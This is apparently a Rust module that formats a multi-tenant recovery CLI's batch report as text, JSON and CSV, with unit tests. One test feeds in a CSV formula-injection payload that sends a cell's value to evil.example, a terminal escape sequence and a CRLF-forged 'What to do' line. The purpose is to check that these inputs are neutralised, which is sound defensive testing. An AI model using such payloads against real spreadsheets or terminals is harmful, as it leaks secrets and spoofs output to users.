//! The `batch` command's report: every line of the file, in order, with the four values PMPC
//! asks for, whether they were verified, the deadline, and what went wrong with what to do. As
//! text or JSON (`--json`) on stdout, and as CSV in a file.
//!
//! The client secret is in it only when the user asked (`--show-secrets`); the JSON then has a
//! `clientSecret` key for every tenant (null where there is none) and the CSV a "Client secret"
//! column, and neither has either otherwise.

use std::path::PathBuf;

use recovery::untrusted::{csv_row, terminal, CsvCell, CSV_BOM};
use recovery::ErrorInfo;
use serde::Serialize;
use time::OffsetDateTime;

use crate::batch_file::BadLine;
use crate::render::{rfc3339, sorted_json_line, time_left};

/// How a tenant's line ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub enum Outcome {
    /// Verified in this run.
    Verified,
    /// Verified by an earlier run, its secret still in the keychain: skipped, no sign-in.
    AlreadyVerified,
    /// Everything but admin consent done; an administrator must grant it (`--hand-off-consent`).
    WaitingForConsent,
    /// Sign-in, precheck or a step failed: see the error.
    Failed,
    /// An earlier run's deadline passed: PMPC no longer accepts its values.
    Expired,
    /// Another line names the same tenant (found once signed in, or from the journal).
    Duplicate,
}

impl Outcome {
    pub fn done(self) -> bool {
        matches!(self, Outcome::Verified | Outcome::AlreadyVerified)
    }

    fn words(self) -> &'static str {
        match self {
            Outcome::Verified => "verified",
            Outcome::AlreadyVerified => "verified earlier (skipped)",
            Outcome::WaitingForConsent => "waiting for admin consent",
            Outcome::Failed => "failed",
            Outcome::Expired => "expired",
            Outcome::Duplicate => "duplicate",
        }
    }
}

/// One tenant's line of the report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TenantReport {
    pub line: usize,
    /// As the file names it.
    pub tenant: String,
    pub label: Option<String>,
    pub tenant_name: Option<String>,
    /// The Directory (tenant) ID, once known (signed in, or from an earlier run).
    pub tenant_id: Option<String>,
    pub application_id: Option<String>,
    pub object_id: Option<String>,
    /// Only with `--show-secrets`.
    pub client_secret: Option<String>,
    pub verified: bool,
    pub deadline: Option<OffsetDateTime>,
    /// An earlier run of this tenant was picked up (finished or continued).
    pub resumed: bool,
    pub result: Outcome,
    pub error: Option<ErrorInfo>,
}

impl TenantReport {
    /// A line nothing is known about yet.
    pub fn new(line: usize, tenant: &str, label: Option<&str>) -> Self {
        Self {
            line,
            tenant: tenant.to_string(),
            label: label.map(str::to_string),
            tenant_name: None,
            tenant_id: None,
            application_id: None,
            object_id: None,
            client_secret: None,
            verified: false,
            deadline: None,
            resumed: false,
            result: Outcome::Failed,
            error: None,
        }
    }

    /// How the text report names it: `Contoso (contoso.com)`, or the tenant alone.
    fn heading(&self) -> String {
        match &self.label {
            Some(label) => format!("{} ({})", terminal(label), terminal(&self.tenant)),
            None => terminal(&self.tenant).into_owned(),
        }
    }
}

/// The whole report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BatchReport {
    pub tenants: Vec<TenantReport>,
    pub bad_lines: Vec<BadLine>,
    /// Whether the secrets are in it (`--show-secrets`).
    pub secrets_shown: bool,
    /// Where the CSV was written.
    pub csv: Option<PathBuf>,
}

impl BatchReport {
    pub fn verified(&self) -> usize {
        self.tenants.iter().filter(|t| t.result.done()).count()
    }

    /// Every tenant verified and every line read: the exit status is 0.
    pub fn complete(&self) -> bool {
        self.bad_lines.is_empty() && self.verified() == self.tenants.len()
    }

    /// `3 of 4 tenants verified; 1 line could not be read (line 6).`
    pub fn summary(&self) -> String {
        let mut text = format!(
            "{} of {} tenant{} verified",
            self.verified(),
            self.tenants.len(),
            if self.tenants.len() == 1 { "" } else { "s" }
        );
        let not_done: Vec<String> = self
            .tenants
            .iter()
            .filter(|t| !t.result.done())
            .map(|t| t.line.to_string())
            .collect();
        if !not_done.is_empty() {
            text.push_str(&format!(
                "; not finished: line{} {}",
                if not_done.len() == 1 { "" } else { "s" },
                not_done.join(", ")
            ));
        }
        if !self.bad_lines.is_empty() {
            let lines: Vec<String> = self.bad_lines.iter().map(|b| b.line.to_string()).collect();
            text.push_str(&format!(
                "; {} line{} could not be read (line{} {})",
                lines.len(),
                if lines.len() == 1 { "" } else { "s" },
                if lines.len() == 1 { "" } else { "s" },
                lines.join(", ")
            ));
        }
        text.push('.');
        if !not_done.is_empty() {
            text.push_str(" Run the same file again to finish: what is done is skipped.");
        }
        text
    }
}

// ---- JSON ----

/// `batch --json`: `{"tenants": [...], "badLines": [...], "summary": {...}, "csv", "secretsShown"}`.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct ReportJson<'a> {
    tenants: Vec<TenantJson<'a>>,
    bad_lines: &'a [BadLine],
    summary: SummaryJson,
    csv: Option<String>,
    secrets_shown: bool,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct TenantJson<'a> {
    line: usize,
    tenant: &'a str,
    label: Option<&'a str>,
    tenant_name: Option<&'a str>,
    tenant_id: Option<&'a str>,
    application_id: Option<&'a str>,
    object_id: Option<&'a str>,
    /// Present only when secrets are shown (null where there is none).
    #[serde(skip_serializing_if = "Option::is_none")]
    client_secret: Option<Option<&'a str>>,
    verified: bool,
    deadline: Option<String>,
    resumed: bool,
    result: Outcome,
    error: Option<&'a ErrorInfo>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct SummaryJson {
    tenants: usize,
    verified: usize,
    not_done: usize,
    bad_lines: usize,
}

pub fn to_json(report: &BatchReport) -> String {
    let tenants = report
        .tenants
        .iter()
        .map(|t| TenantJson {
            line: t.line,
            tenant: &t.tenant,
            label: t.label.as_deref(),
            tenant_name: t.tenant_name.as_deref(),
            tenant_id: t.tenant_id.as_deref(),
            application_id: t.application_id.as_deref(),
            object_id: t.object_id.as_deref(),
            client_secret: report.secrets_shown.then_some(t.client_secret.as_deref()),
            verified: t.verified,
            deadline: t.deadline.map(rfc3339),
            resumed: t.resumed,
            result: t.result,
            error: t.error.as_ref(),
        })
        .collect();
    let verified = report.verified();
    sorted_json_line(&ReportJson {
        tenants,
        bad_lines: &report.bad_lines,
        summary: SummaryJson {
            tenants: report.tenants.len(),
            verified,
            not_done: report.tenants.len() - verified,
            bad_lines: report.bad_lines.len(),
        },
        csv: report.csv.as_ref().map(|p| p.display().to_string()),
        secrets_shown: report.secrets_shown,
    })
}

// ---- CSV ----

/// RFC 4180 after a UTF-8 byte order mark (so Excel on Windows reads "Müller GmbH" right): one
/// header row, then a row per line of the file (tenants and bad lines, in file order), CRLF line
/// ends, fields with a comma, quote or line break in double quotes. Every cell is a
/// [`CsvCell`]: free text (names, labels, messages) is neutralised against formulas, IDs, times
/// and the secret go in exactly.
pub fn to_csv(report: &BatchReport) -> String {
    let mut rows: Vec<CsvRow> = report.tenants.iter().map(CsvRow::tenant).collect();
    rows.extend(report.bad_lines.iter().map(CsvRow::bad_line));
    rows.sort_by_key(|row| row.line);
    let header = CsvRow::HEADER
        .iter()
        .filter(|h| report.secrets_shown || **h != "Client secret")
        .map(|h| CsvCell::Exact(h));
    let mut out = String::from(CSV_BOM);
    out.push_str(&csv_row(header));
    for row in &rows {
        let number = row.line.to_string();
        out.push_str(&csv_row(row.cells(&number, report.secrets_shown)));
    }
    out
}

/// Writes the CSV to `path` and says where (and, with the secrets, that it holds them). Always a
/// fresh file renamed into place: with the secrets it is readable by its owner only (0600 on
/// Unix) whatever was at the path before, a 0644 file or a symlink (replaced, its target left
/// alone).
pub fn write_csv(path: &std::path::Path, report: &BatchReport, with_secrets: bool) -> bool {
    use recovery::save::{replace, Access};
    let access = if with_secrets {
        Access::OwnerOnly
    } else {
        Access::Usual
    };
    match replace(path, to_csv(report).as_bytes(), access) {
        Ok(()) if with_secrets => {
            crate::progress::say!(
                "Wrote the report to {}. IT HOLDS THE CLIENT SECRETS (--show-secrets): keep it safe and delete it once PMPC has them.",
                path.display()
            );
            true
        }
        Ok(()) => {
            crate::progress::say!(
                "Wrote the report to {} (no secrets in it: they are in this computer's keychain).",
                path.display()
            );
            true
        }
        Err(e) => {
            crate::progress::say!(
                "error: could not write the report to {}: {e}",
                path.display()
            );
            false
        }
    }
}

/// One row of the CSV, column by column.
#[derive(Default)]
struct CsvRow {
    line: usize,
    tenant: String,
    label: String,
    tenant_name: String,
    tenant_id: String,
    application_id: String,
    object_id: String,
    client_secret: String,
    verified: bool,
    deadline: String,
    result: &'static str,
    error: String,
    remedy: String,
    request_id: String,
}

impl CsvRow {
    const HEADER: [&'static str; 14] = [
        "Line",
        "Tenant",
        "Label",
        "Tenant name",
        "Directory (tenant) ID",
        "Application (client) ID",
        "Object ID",
        "Client secret",
        "Verified",
        "Deadline (UTC)",
        "Result",
        "Error",
        "What to do",
        "Request ID",
    ];

    fn tenant(t: &TenantReport) -> Self {
        let text = |v: &Option<String>| v.clone().unwrap_or_default();
        let error = t.error.as_ref();
        Self {
            line: t.line,
            tenant: t.tenant.clone(),
            label: text(&t.label),
            tenant_name: text(&t.tenant_name),
            tenant_id: text(&t.tenant_id),
            application_id: text(&t.application_id),
            object_id: text(&t.object_id),
            client_secret: text(&t.client_secret),
            verified: t.verified,
            deadline: t.deadline.map(rfc3339).unwrap_or_default(),
            result: t.result.words(),
            error: error.map(|e| e.message.clone()).unwrap_or_default(),
            remedy: error.map(|e| e.remedy.clone()).unwrap_or_default(),
            request_id: error.and_then(|e| e.request_id.clone()).unwrap_or_default(),
        }
    }

    fn bad_line(b: &BadLine) -> Self {
        Self {
            line: b.line,
            tenant: b.text.clone(),
            result: "bad line",
            error: b.message.clone(),
            remedy:
                "Correct the line: a domain or a Directory (tenant) ID, then an optional label."
                    .into(),
            ..Self::default()
        }
    }

    /// The cells in [`CsvRow::HEADER`]'s order; the secret's only when `secrets_shown`. What a
    /// tenant, a server or the batch file wrote is [`CsvCell::Text`]; IDs, the secret, times
    /// and our own words are [`CsvCell::Exact`].
    fn cells<'a>(&'a self, number: &'a str, secrets_shown: bool) -> Vec<CsvCell<'a>> {
        let mut cells = vec![
            CsvCell::Exact(number),
            CsvCell::Text(&self.tenant),
            CsvCell::Text(&self.label),
            CsvCell::Text(&self.tenant_name),
            CsvCell::Exact(&self.tenant_id),
            CsvCell::Exact(&self.application_id),
            CsvCell::Exact(&self.object_id),
        ];
        if secrets_shown {
            cells.push(CsvCell::Exact(&self.client_secret));
        }
        cells.extend([
            CsvCell::Exact(if self.verified { "yes" } else { "no" }),
            CsvCell::Exact(&self.deadline),
            CsvCell::Exact(self.result),
            CsvCell::Text(&self.error),
            CsvCell::Text(&self.remedy),
            CsvCell::Exact(&self.request_id),
        ]);
        cells
    }
}

// ---- text ----

/// A block per tenant (in file order, bad lines among them), then the summary.
pub fn to_text(report: &BatchReport, now: OffsetDateTime) -> String {
    let mut blocks: Vec<(usize, Vec<String>)> = Vec::new();
    for t in &report.tenants {
        blocks.push((t.line, tenant_lines(t, report.secrets_shown, now)));
    }
    for b in &report.bad_lines {
        blocks.push((b.line, vec![format!("{} (skipped)", terminal(&b.message))]));
    }
    blocks.sort_by_key(|(line, _)| *line);
    let mut lines: Vec<String> = blocks.into_iter().flat_map(|(_, b)| b).collect();
    lines.push(String::new());
    lines.push(report.summary());
    lines.join("\n")
}

fn tenant_lines(t: &TenantReport, secrets_shown: bool, now: OffsetDateTime) -> Vec<String> {
    let state = match (&t.error, t.result) {
        (Some(e), Outcome::Failed | Outcome::Expired | Outcome::Duplicate) => {
            format!(
                "{} — {}",
                t.result.words().to_uppercase(),
                terminal(&e.message)
            )
        }
        _ => capitalized(t.result.words()),
    };
    let mut lines = vec![format!("line {}: {}: {state}", t.line, t.heading())];
    // A value from a tenant or a server stays on its line (no forged `Verified` line under it).
    let mut value = |name: &str, v: &str| lines.push(format!("  {name:<25} {}", terminal(v)));
    if let Some(name) = &t.tenant_name {
        value("Tenant name:", name);
    }
    if let Some(id) = &t.tenant_id {
        value("Directory (tenant) ID:", id);
    }
    if let Some(id) = &t.application_id {
        value("Application (client) ID:", id);
    }
    if let Some(id) = &t.object_id {
        value("Object ID:", id);
    }
    if t.application_id.is_some() {
        let secret = match (&t.client_secret, secrets_shown) {
            (Some(s), true) => s.clone(),
            _ if t.verified => {
                "in this computer's keychain (`pmpc-recovery-cli status --show-secret`)".into()
            }
            _ => "none yet".into(),
        };
        value("Client secret:", &secret);
    }
    if let Some(deadline) = t.deadline {
        value(
            "Use before:",
            &format!("{} ({})", rfc3339(deadline), time_left(deadline, now)),
        );
    }
    if let Some(e) = &t.error {
        value("What to do:", &e.remedy);
        if let Some(id) = &e.request_id {
            value("Request ID:", id);
        }
    }
    lines
}

fn capitalized(s: &str) -> String {
    let mut chars = s.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use recovery::{Code, Error};
    use time::macros::datetime;

    use super::*;

    fn verified() -> TenantReport {
        TenantReport {
            tenant_name: Some("Contoso".into()),
            tenant_id: Some("tid".into()),
            application_id: Some("client".into()),
            object_id: Some("object".into()),
            client_secret: Some("abc~secret".into()),
            verified: true,
            deadline: Some(datetime!(2025-01-04 12:00 UTC)),
            result: Outcome::Verified,
            ..TenantReport::new(2, "contoso.com", Some("Contoso, \"the\" customer"))
        }
    }

    fn failed() -> TenantReport {
        let mut info = Error::Network("connection reset".into()).info();
        info.request_id = Some("req-1".into());
        TenantReport {
            tenant_id: Some("tid2".into()),
            application_id: Some("client2".into()),
            object_id: Some("object2".into()),
            deadline: Some(datetime!(2025-01-04 13:00 UTC)),
            resumed: true,
            error: Some(info),
            ..TenantReport::new(4, "fabrikam.com", None)
        }
    }

    fn report(secrets_shown: bool) -> BatchReport {
        BatchReport {
            tenants: vec![verified(), failed()],
            bad_lines: vec![BadLine {
                line: 3,
                text: "not a tenant".into(),
                message: "line 3: \"not\" is not a domain".into(),
            }],
            secrets_shown,
            csv: Some(PathBuf::from("/tmp/t.report.csv")),
        }
    }

    #[test]
    fn csv_quotes_what_needs_it_keeps_file_order_and_holds_the_secret_only_when_shown() {
        let csv = to_csv(&report(false));
        let csv = csv.strip_prefix('\u{FEFF}').expect("a UTF-8 BOM first");
        let rows: Vec<&str> = csv.split("\r\n").collect();
        assert_eq!(
            rows[0],
            "Line,Tenant,Label,Tenant name,Directory (tenant) ID,Application (client) ID,Object ID,Verified,Deadline (UTC),Result,Error,What to do,Request ID"
        );
        assert_eq!(
            rows[1],
            "2,contoso.com,\"Contoso, \"\"the\"\" customer\",Contoso,tid,client,object,yes,2025-01-04T12:00:00Z,verified,,,"
        );
        assert!(
            rows[2].starts_with("3,not a tenant,,,,,,no,,bad line,\"line 3: \"\"not\"\" is not a domain\",\"Correct the line"),
            "{}",
            rows[2]
        );
        assert!(rows[3]
            .starts_with("4,fabrikam.com,,,tid2,client2,object2,no,2025-01-04T13:00:00Z,failed,"));
        assert!(rows[3].ends_with(",req-1"), "{}", rows[3]);
        assert_eq!(rows[4], "", "ends with CRLF");
        assert_eq!(rows.len(), 5);
        assert!(!csv.contains("abc~secret"));
        let shown = to_csv(&report(true));
        assert!(shown.starts_with("\u{FEFF}Line,Tenant,Label,Tenant name,Directory (tenant) ID,Application (client) ID,Object ID,Client secret,Verified,"));
        assert!(shown.contains(",object,abc~secret,yes,"));
        let bad_row = shown.split("\r\n").nth(2).unwrap_or_default();
        assert!(
            bad_row.starts_with("3,not a tenant,,,,,,,no,,bad line,"),
            "{bad_row}"
        );
    }

    #[test]
    fn hostile_names_and_messages_are_text_in_the_csv_and_one_line_in_the_report() {
        let mut info =
            Error::Network("reset\r\nWhat to do: go to http://evil.example".into()).info();
        info.request_id = Some("req-2".into());
        let hostile = TenantReport {
            tenant_name: Some("=HYPERLINK(\"http://evil.example/?\"&H3, \"x\")".into()),
            tenant_id: Some("tid3".into()),
            application_id: Some("client3".into()),
            client_secret: Some("-abc~secret".into()),
            error: Some(info),
            ..TenantReport::new(
                5,
                "@evil.example",
                Some("+Contoso\x1b]0;pwned\x07\nVerified"),
            )
        };
        let report = BatchReport {
            tenants: vec![hostile],
            bad_lines: vec![],
            secrets_shown: true,
            csv: None,
        };
        let csv = to_csv(&report);
        let row = csv.split("\r\n").nth(1).unwrap_or_default();
        assert!(
            row.starts_with("5,'@evil.example,'+Contoso]0;pwned Verified,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&H3, \"\"x\"\")\",tid3,client3,,-abc~secret,no,"),
            "{row}"
        );
        assert!(
            row.contains(",failed,network error: reset  What to do: go to http://evil.example,"),
            "{row}"
        );
        assert!(
            !csv.contains('\x1b') && csv.split("\r\n").count() == 3,
            "{csv:?}"
        );

        let text = to_text(&report, datetime!(2025-01-02 12:00 UTC));
        assert!(!text.contains('\x1b') && !text.contains('\x07'), "{text:?}");
        assert!(
            !text
                .lines()
                .any(|l| l.starts_with("What to do") || l == "Verified"),
            "{text}"
        );
        assert!(
            text.starts_with("line 5: +Contoso\u{FFFD}]0;pwned\u{FFFD} Verified (@evil.example): FAILED — network error: reset  What to do: go to http://evil.example\n"),
            "{text}"
        );
    }

    #[test]
    fn json_lists_tenants_bad_lines_and_a_summary() {
        let v: serde_json::Value = serde_json::from_str(&to_json(&report(false))).unwrap();
        assert_eq!(
            v["summary"],
            serde_json::json!({"tenants": 2, "verified": 1, "notDone": 1, "badLines": 1})
        );
        assert_eq!(v["tenants"][0]["result"], "verified");
        assert_eq!(v["tenants"][0]["deadline"], "2025-01-04T12:00:00Z");
        assert!(v["tenants"][0].get("clientSecret").is_none());
        assert_eq!(v["tenants"][1]["error"]["code"], "network");
        assert_eq!(v["tenants"][1]["error"]["remedy"], Code::Network.remedy());
        assert_eq!(v["tenants"][1]["resumed"], true);
        assert_eq!(v["badLines"][0]["line"], 3);
        assert_eq!(v["csv"], "/tmp/t.report.csv");
        assert_eq!(v["secretsShown"], false);
        let shown: serde_json::Value = serde_json::from_str(&to_json(&report(true))).unwrap();
        assert_eq!(shown["tenants"][0]["clientSecret"], "abc~secret");
        assert_eq!(shown["tenants"][1]["clientSecret"], serde_json::Value::Null);
    }

    #[test]
    fn text_names_each_line_and_ends_with_the_summary() {
        let now = datetime!(2025-01-02 12:00 UTC);
        let text = to_text(&report(false), now);
        let expected = "line 2: Contoso, \"the\" customer (contoso.com): Verified\n  \
            Tenant name:              Contoso\n  \
            Directory (tenant) ID:    tid\n  \
            Application (client) ID:  client\n  \
            Object ID:                object\n  \
            Client secret:            in this computer's keychain (`pmpc-recovery-cli status --show-secret`)\n  \
            Use before:               2025-01-04T12:00:00Z (2 days left)\n\
            line 3: \"not\" is not a domain (skipped)\n\
            line 4: fabrikam.com: FAILED — ";
        assert!(text.starts_with(expected), "{text}");
        assert!(
            text.contains("  Client secret:            none yet\n"),
            "{text}"
        );
        assert!(
            text.contains("  Request ID:               req-1\n"),
            "{text}"
        );
        assert!(text.ends_with(
            "\n\n1 of 2 tenants verified; not finished: line 4; 1 line could not be read (line 3). Run the same file again to finish: what is done is skipped."
        ), "{text}");
        assert!(to_text(&report(true), now).contains("  Client secret:            abc~secret\n"));
    }
}
